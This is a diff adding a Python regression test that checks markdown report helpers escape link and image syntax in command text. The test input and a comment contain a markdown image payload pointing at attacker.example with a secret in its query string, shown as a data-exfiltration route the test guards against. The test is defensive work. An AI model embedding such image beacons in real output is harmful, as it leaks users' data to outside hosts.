@@ -67,3 +67,15 @@ def test_a_commands_words_keep_their_length_tabs_and_newlines() -> None:
     assert printable(text) == "a\ufffd[2Jb\tc\nd\ufffd\ufffd"
     said = FailureEvent(owner="task", stage="replay", code="exit_1", message="x" * 511 + "\x1b")
     assert said.message == "x" * 511 + "\ufffd"  # one for one: the bound still holds
+
+
+def test_a_commands_words_make_no_link_or_image_in_report_md() -> None:
+    # Found by review: ``![](https://attacker.example/px.png?d=...)`` in a command's words
+    # became an image fetched whenever report.md is viewed: a way out for data.
+    from evolane.campaign._markdown import _cell, _text
+
+    words = "see ![px](https://attacker.example/px.png?d=s3cret) and [here](https://x.example)"
+    for made in (_text(words), _cell(words)):
+        assert "![px](" not in made and "[here](" not in made
+        assert "\\[here\\](https://x.example)" in made  # still told, as text
+    assert _text("p <= 0.05 & a < b") == "p <= 0.05 & a < b"  # no tag begins there
